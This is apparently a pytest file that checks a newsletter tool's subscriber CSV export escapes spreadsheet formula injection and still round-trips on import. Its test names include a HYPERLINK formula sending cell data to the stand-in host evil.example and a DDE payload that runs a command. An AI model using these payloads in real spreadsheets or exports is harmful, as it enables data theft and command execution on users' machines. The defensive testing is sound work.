"""Formula injection through the subscriber export: a name a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy import select

from briefmail.db.models import Subscriber
from briefmail.db.session import session_scope
from tests.cli import run_cli

NAMES = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",  # written to the table by hand or an older import: no service stores it
    "'=already quoted",
    "Ann O'Brien",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_export_cells_cannot_run_as_formulas_and_still_re_import(
    db_url, monkeypatch, capsys
) -> None:
    with session_scope(db_url) as s:
        for i, name in enumerate(NAMES):
            s.add(Subscriber(email=f"r{i}@example.org", email_key=f"r{i}@example.org", name=name,
                             status="active", secret=f"s{i}"))  # fmt: skip
        s.add(Subscriber(email="=x@example.org", email_key="=x@example.org", name="", secret="e"))
    code, exported, _ = run_cli(["subscribers", "export"], monkeypatch, capsys)
    assert code == 0
    rows = list(csv.reader(io.StringIO(exported)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")' in cells
    assert "''=already quoted" in cells
    assert "Ann O'Brien" in cells

    with session_scope(db_url) as s:  # a round trip: the export imports as it was
        for row in s.scalars(select(Subscriber)):
            s.delete(row)
    path = Path("export.csv")  # in the test's own folder
    path.write_text(exported, encoding="utf-8")
    code, _, stderr = run_cli(["subscribers", "import", str(path)], monkeypatch, capsys)
    assert code == 0, stderr
    with session_scope(db_url) as s:
        names = {row.email: row.name for row in s.scalars(select(Subscriber))}
    assert names["=x@example.org"] == ""
    for i, name in enumerate(NAMES):
        if name.isprintable():  # an import refuses names with control characters
            assert names[f"r{i}@example.org"] == name
